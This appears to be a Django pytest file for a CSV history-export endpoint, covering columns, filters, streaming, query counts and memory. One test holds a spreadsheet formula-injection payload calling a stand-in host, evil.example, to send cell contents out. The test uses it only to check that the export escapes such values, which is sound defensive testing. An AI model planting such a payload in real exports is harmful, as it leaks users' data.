"""`GET /api/history/export.csv`: all that was found, as spreadsheets and scripts read it."""

import csv
import io
import tracemalloc
from datetime import UTC, datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from history.models import Entry, Kind, State
from history.queries import Wanted
from history.tables import COLUMNS, ROWS_AT_ONCE, csv_of
from tests.history.builders import make_entry

URL = "/api/history/export.csv"
MANY = 3_000


@pytest.fixture
def api(alice, api_of):
    return api_of(alice)


def body_of(api, **query) -> bytes:
    answer = api.get(URL, query)
    assert answer.status_code == 200, answer.content
    return b"".join(answer.streaming_content)


def rows_of(api, **query) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body_of(api, **query).decode("utf-8-sig"), newline="")))


def titles(api, **query) -> list[str]:
    return [row["title"] for row in rows_of(api, **query)]


def make_many(owner, count: int, text: str) -> None:
    """Numbers go with their rows, as they do where each is made by itself."""
    Entry.objects.bulk_create(
        [
            Entry(owner=owner, title=f"Entry {number}", text=text, engine="kokoro", model="kokoro")
            for number in range(count)
        ],
        batch_size=500,
    )


def test_every_column_of_an_entry_is_there(api, alice):
    entry = make_entry(
        alice,
        "First line,\nsecond “line” ",
        title="Fox",
        created_at=datetime(2026, 3, 9, 22, 30, tzinfo=UTC),
        speed=1.25,
        audio_bytes=1_000,
        making_seconds=1.0,
        is_favourite=True,
        note="For Monday",
        profile_name="Narrator",
        api_key_name="script",
    )
    [row] = rows_of(api)
    assert tuple(row) == COLUMNS
    assert row == {
        "id": str(entry.pk),
        "created_at": "2026-03-09T22:30:00Z",
        "type": "tts",
        "state": "done",
        "source": "page",
        "title": "Fox",
        "text": "First line,\nsecond “line” ",
        "engine": "kokoro",
        "model": "tts-1",
        "voice": "af_heart",
        "profile_name": "Narrator",
        "language": "en-us",
        "format": "mp3",
        "speed": "1.25",
        "effects": "",
        "characters": str(len(entry.text)),
        "duration_seconds": "2.0",
        "audio_bytes": "1000",
        "real_time_factor": "0.5",
        "is_favourite": "true",
        "note": "For Monday",
        "api_key_name": "script",
        "take_number": "1",
        "error": "",
        "fallback_from": "",
    }


def test_it_is_a_file_of_todays_name_in_utf_8(api, alice):
    make_entry(alice, "Päivää")
    answer = api.get(URL)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith('attachment; filename="history-2')
    assert b"".join(answer.streaming_content).startswith(b"\xef\xbb\xbfid,created_at,type,")


def test_without_entries_there_is_a_heading(api):
    assert body_of(api).decode("utf-8-sig") == ",".join(COLUMNS) + "\r\n"


def test_what_spreadsheets_would_carry_out_is_text(api, alice):
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    make_entry(alice, attack, title=attack, note="@SUM(1)", api_key_name="+1", voice="-1", language="\tx")
    [row] = rows_of(api)
    assert row["text"] == row["title"] == f"'{attack}"
    assert (row["note"], row["api_key_name"], row["voice"], row["language"]) == (
        "'@SUM(1)",
        "'+1",
        "'-1",
        "'\tx",
    )


def test_the_filters_are_those_of_the_list(api, alice):
    make_entry(alice, "A fox", voice="joe", created_at=datetime(2026, 3, 9, 12, tzinfo=UTC))
    make_entry(alice, "A hen", is_favourite=True)
    make_entry(alice, "A broken one", kind=Kind.STT, state=State.FAILED, error="No sound.")
    assert titles(api) == ["A broken one", "A hen", "A fox"]
    assert titles(api, q="fox") == ["A fox"]
    assert titles(api, favourite="true") == ["A hen"]
    assert titles(api, type="stt") == ["A broken one"]
    assert titles(api, until="2026-03-09", voice="joe", engine="") == ["A fox"]
    assert titles(api, voice="nobody") == []


@pytest.mark.parametrize(
    ("query", "param"),
    [
        ({"type": "music"}, "type"),
        ({"enginee": "x"}, "enginee"),
        ({"q": "w" * 201}, "q"),
        ({"limit": "5"}, "limit"),
    ],
)
def test_what_makes_no_sense_is_told_before_the_first_byte(api, query, param):
    answer = api.get(URL, query)
    assert (answer.status_code, answer.json()["error"]["param"]) == (400, param)


def test_what_is_deleted_or_another_persons_is_not_in_it(api, alice, bob):
    make_entry(bob, "The secret of Bob")
    make_entry(alice, "Deleted", deleted_at=datetime.now(UTC))
    make_entry(alice, "Mine")
    assert titles(api) == ["Mine"]


@pytest.mark.parametrize("query", [{}, {"q": "entry"}])
def test_three_thousand_entries_take_one_question_a_page(api, alice, query):
    make_many(alice, MANY, "Some text of it.")
    assert len(titles(api, **query)) == MANY  # and the use of the key is noted
    with CaptureQueriesContext(
        connection,
    ) as asked:
        found = titles(api, **query)
    assert sorted(found) == sorted(f"Entry {number}" for number in range(MANY))
    assert len(asked) == 1 + MANY // ROWS_AT_ONCE  # the key, and each page


def peak_bytes(user) -> int:
    tracemalloc.start()
    try:
        size = sum(map(len, csv_of(user, Wanted())))
        assert size > 1_000
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_memory_does_not_grow_with_the_history(alice):
    text = "A sentence that is said again and again. " * 100
    make_many(alice, 2 * ROWS_AT_ONCE, text)
    peak_bytes(alice)  # what is imported and compiled at the first time
    few = peak_bytes(alice)
    make_many(alice, MANY, text)
    assert peak_bytes(alice) < 1.5 * few


def test_what_is_made_meanwhile_spoils_nothing(alice):
    make_many(alice, 2 * ROWS_AT_ONCE, "Text.")
    pieces = csv_of(alice, Wanted())
    next(pieces), next(pieces)
    make_many(alice, 5, "Newer.")
    rest = next(pieces).decode()
    assert rest.count("\r\n") == ROWS_AT_ONCE
    assert "Newer" not in rest
